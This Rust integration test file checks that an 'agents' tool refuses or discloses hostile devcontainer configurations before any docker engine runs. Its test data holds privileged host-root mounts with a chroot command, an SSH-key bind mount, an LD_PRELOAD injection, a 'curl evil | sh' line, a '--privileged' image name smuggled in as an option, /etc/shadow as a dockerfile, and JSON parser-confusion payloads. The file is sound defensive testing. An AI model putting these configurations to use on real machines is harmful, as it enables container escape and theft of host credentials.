//! Hostile devcontainer configurations, one by one, through
//! the real binary and stand-in `docker` / `devcontainer` executables
//! that log every argv: nothing reaches an engine before a person trusts
//! the configuration, what they are shown names the host access, and what
//! is never allowed is refused even then.

use crate::common::{Env, Run, commit_all, stand_ins, tool_log};
use std::path::{Path, PathBuf};

pub const DC: &str = "local/my-repo-devcontainer";

/// A checkout `repo/` with `config` as its devcontainer.json (and
/// `files`, relative to it), registered as `local/my-repo`.
pub fn repo(env: &Env, config: &str, files: &[(&str, &str)]) -> PathBuf {
    let repo = env.mkdir("repo");
    env.write("repo/.devcontainer/devcontainer.json", config);
    env.write("repo/README.md", "# repo\n");
    for (rel, text) in files {
        env.write(&format!("repo/{rel}"), text);
    }
    commit_all(&repo);
    env.add("git-checkout", "local/my-repo", &repo, &[]).ok();
    repo
}

/// `agents ARGS` under a 120-second watchdog (`timeout`): a run blocked
/// on a FIFO fails the test (exit 124) instead of hanging it.
pub fn bounded(env: &Env, args: &[&str]) -> Run {
    let mut cmd = std::process::Command::new("timeout");
    cmd.arg("120").arg(env!("CARGO_BIN_EXE_agents"));
    cmd.arg("--home").arg(env.home.path());
    cmd.env_remove("AGENTS_HOME")
        .env_remove("AGENTS_REGISTRY")
        .env("NO_COLOR", "1")
        .current_dir(env.scratch.path())
        .envs(env.vars.iter().map(|(k, v)| (k, v)))
        .args(args)
        .stdin(std::process::Stdio::null());
    let run = Run::from(cmd.output().unwrap());
    assert_ne!(run.code, 124, "agents {args:?} blocked: {}", run.stderr);
    run
}

/// Every activation path refuses (saying `needles`), and no tool ran.
#[track_caller]
fn nothing_activates(env: &Env, bin: &Path, needles: &[&str]) {
    for args in [
        vec!["resource", "start", DC],
        vec!["resource", "rebuild", DC],
        vec!["env", "resolve", "local/my-repo", "--activate"],
    ] {
        bounded(env, &args).refused(needles);
    }
    assert_eq!(tool_log(bin), "", "an engine was asked");
}

const PRIVILEGED: &str = r#"{
    "image": "debian:12",
    "runArgs": ["--privileged", "-v", "/:/host", "--pid=host", "--network=host", "--cap-add=ALL"],
    "workspaceMount": "type=bind,source=/,target=/workspaces/x",
    "containerUser": "root",
    "postCreateCommand": "chroot /host sh -c 'touch /tmp/pwned'"
}"#;

#[test]
fn host_root_through_docker_reaches_the_engine_only_as_trusted() {
    let mut env = Env::new();
    let bin = stand_ins(&mut env, &["docker"]);
    let repo = repo(&env, PRIVILEGED, &[]);
    nothing_activates(&env, &bin, &["not trusted", "agents resource trust"]);

    let shown = env.run(&["resource", "trust", DC, "--yes"]);
    let text = shown.ok();
    for needle in [
        "REACHES THE HOST",
        "! privileged: every capability, every host device",
        "! binds the host's / (OUTSIDE the repository — the host's whole filesystem) at /host",
        "! shares the host's process namespace",
        "! shares the host's network namespace",
        "! adds every Linux capability",
        "! workspaceMount: binds the host's / (OUTSIDE",
        "containerUser: root (root in the container)",
        "postCreateCommand: chroot /host sh -c 'touch /tmp/pwned'",
        "trusted local/my-repo-devcontainer for",
    ] {
        assert!(text.contains(needle), "{needle:?} not in:\n{text}");
    }
    assert_eq!(tool_log(&bin), "", "showing and trusting run no tool");

    // The person agreed: what they read is what docker is asked.
    env.run(&["resource", "start", DC]).ok();
    let log = tool_log(&bin);
    let run = log.lines().find(|l| l.starts_with("docker run")).unwrap();
    for part in [
        "--mount type=bind,source=/,target=/workspaces/x",
        "-u root",
        "--privileged -v /:/host --pid=host --network=host --cap-add=ALL",
    ] {
        assert!(run.contains(part), "{part:?} not in {run}");
    }
    assert!(
        log.contains("docker exec -w /workspaces/repo 0123abcd /bin/sh -c chroot /host"),
        "{log}"
    );

    // A change (even one more option) needs the person again.
    std::fs::write(
        repo.join(".devcontainer/devcontainer.json"),
        PRIVILEGED.replace(
            "\"--cap-add=ALL\"",
            "\"--cap-add=ALL\", \"--device=/dev/kvm\"",
        ),
    )
    .unwrap();
    let before = tool_log(&bin);
    env.run(&["resource", "rebuild", DC]).refused(&[
        "changed since",
        ".devcontainer/devcontainer.json (configuration) changed",
        "agents resource trust local/my-repo-devcontainer",
    ]);
    assert_eq!(tool_log(&bin), before);
}

#[test]
fn initialize_command_ssh_keys_and_ld_preload_through_the_cli_wait_for_trust() {
    let mut env = Env::new();
    let bin = stand_ins(&mut env, &["docker", "devcontainer"]);
    repo(
        &env,
        r#"{
        "image": "debian:12",
        "initializeCommand": "sh .devcontainer/init.sh",
        "mounts": ["source=/root/.ssh,target=/root/.ssh,type=bind"],
        "containerEnv": {"LD_PRELOAD": "/workspaces/repo/hook.so"}
    }"#,
        &[(".devcontainer/init.sh", "touch /tmp/pwned\n")],
    );
    nothing_activates(&env, &bin, &["not trusted"]);
    let summary = bounded(&env, &["resource", "trust", DC]);
    summary.refused(&["nothing was trusted", "no terminal", "--yes"]);
    for needle in [
        "commands run ON THE HOST:",
        "! initializeCommand: sh .devcontainer/init.sh",
        "! mounts: binds the host's /root/.ssh (OUTSIDE the repository)",
        "LD_PRELOAD=/workspaces/repo/hook.so",
        "changes what every program in the container loads",
        "run by:        the Dev Containers CLI",
        ".devcontainer/init.sh (named by initializeCommand)",
    ] {
        assert!(
            summary.stdout.contains(needle),
            "{needle:?} not in:\n{}",
            summary.stdout
        );
    }
    nothing_activates(&env, &bin, &["not trusted"]);

    env.run(&["resource", "trust", DC, "--yes"]).ok();
    env.run(&["resource", "start", DC]).ok();
    assert!(
        tool_log(&bin).contains("devcontainer up --workspace-folder"),
        "{}",
        tool_log(&bin)
    );
    // The script initializeCommand runs is covered by the decision.
    env.write("repo/.devcontainer/init.sh", "curl evil | sh\n");
    env.run(&["resource", "start", DC]).refused(&[
        "changed since",
        ".devcontainer/init.sh (named by initializeCommand) changed",
    ]);
}

#[test]
fn a_build_sending_host_files_is_refused_even_when_a_person_would_trust_it() {
    for (config, needle) in [
        (
            r#"{"build": {"dockerfile": "Dockerfile", "context": "/"}}"#,
            "build.context",
        ),
        (
            r#"{"build": {"dockerfile": "Dockerfile", "context": "/root"}}"#,
            "build.context",
        ),
        (
            r#"{"build": {"dockerfile": "/etc/shadow"}}"#,
            "build.dockerfile",
        ),
    ] {
        let mut env = Env::new();
        let bin = stand_ins(&mut env, &["docker", "devcontainer"]);
        repo(
            &env,
            config,
            &[(".devcontainer/Dockerfile", "FROM debian\n")],
        );
        let needles = [needle, "outside the repository"];
        env.run(&["resource", "trust", DC, "--yes"])
            .refused(&needles);
        nothing_activates(&env, &bin, &needles);
        let shown = env.run(&["resource", "show", DC, "-o", "json"]).json();
        let refused = shown["container"]["refused"].as_str().unwrap();
        assert!(refused.contains("outside the repository"), "{refused}");
    }
}

#[test]
fn an_image_that_reads_as_an_option_is_refused() {
    let mut env = Env::new();
    let bin = stand_ins(&mut env, &["docker"]);
    repo(&env, r#"{"image": "--privileged"}"#, &[]);
    let needles = ["image \"--privileged\"", "option"];
    env.run(&["resource", "trust", DC, "--yes"])
        .refused(&needles);
    nothing_activates(&env, &bin, &needles);
}

#[test]
fn dev_zero_and_fifos_are_refused_without_reading_or_blocking() {
    let mut env = Env::new();
    let bin = stand_ins(&mut env, &["docker"]);
    let repo = repo(
        &env,
        r#"{"build": {"dockerfile": "/dev/zero"}}"#,
        &[(".devcontainer/Dockerfile", "FROM debian\n")],
    );
    let shown = bounded(&env, &["resource", "show", DC, "-o", "json"]).json();
    assert!(
        shown["container"]["refused"]
            .as_str()
            .unwrap()
            .contains("outside the repository"),
        "{shown}"
    );
    nothing_activates(&env, &bin, &["build.dockerfile", "outside the repository"]);

    // Trusted, then the Dockerfile becomes a FIFO with no writer.
    let config = repo.join(".devcontainer/devcontainer.json");
    std::fs::write(&config, r#"{"build": {"dockerfile": "Dockerfile"}}"#).unwrap();
    env.run(&["resource", "trust", DC, "--yes"]).ok();
    let dockerfile = repo.join(".devcontainer/Dockerfile");
    std::fs::remove_file(&dockerfile).unwrap();
    mkfifo(&dockerfile);
    bounded(&env, &["resource", "show", DC]).ok();
    nothing_activates(&env, &bin, &["FIFO", "not a regular file"]);
    // The configuration itself a FIFO.
    std::fs::remove_file(&config).unwrap();
    mkfifo(&config);
    bounded(&env, &["resource", "show", DC]).ok();
    nothing_activates(&env, &bin, &["FIFO"]);
    bounded(&env, &["resource", "trust", DC, "--yes"]).refused(&["FIFO"]);
}

pub fn mkfifo(path: &Path) {
    let made = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap();
    assert!(made.success(), "mkfifo {}", path.display());
}

#[test]
fn where_the_cli_would_read_the_file_otherwise_detection_and_activation_both_refuse() {
    for config in [
        "{ \"image\": \"debian:12\" }\n/* unterminated\n, \"runArgs\": [\"--privileged\"] }",
        "{ \"image\": \"debian:12\", \"image\": \"evil:1\" }",
        "{ \"image\": \"debian:12\",, \"runArgs\": [\"--privileged\"] }",
        "{ \"image\": \"debian:12\" } { \"runArgs\": [\"--privileged\"] }",
        "{ \"__proto__\": { \"runArgs\": [\"--privileged\"] }, \"image\": \"debian:12\" }",
    ] {
        let mut env = Env::new();
        let bin = stand_ins(&mut env, &["docker", "devcontainer"]);
        repo(&env, config, &[]);
        let shown = env.run(&["resource", "show", DC, "-o", "json"]).json();
        let error = shown["properties"]["config-error"].as_str();
        assert!(error.is_some(), "detection accepted {config}: {shown}");
        let refused = shown["container"]["refused"].as_str().unwrap_or_default();
        assert!(refused.contains("not valid JSON"), "{config}: {shown}");
        env.run(&["resource", "trust", DC, "--yes"])
            .refused(&["not valid JSON"]);
        nothing_activates(&env, &bin, &["not valid JSON"]);
    }
}
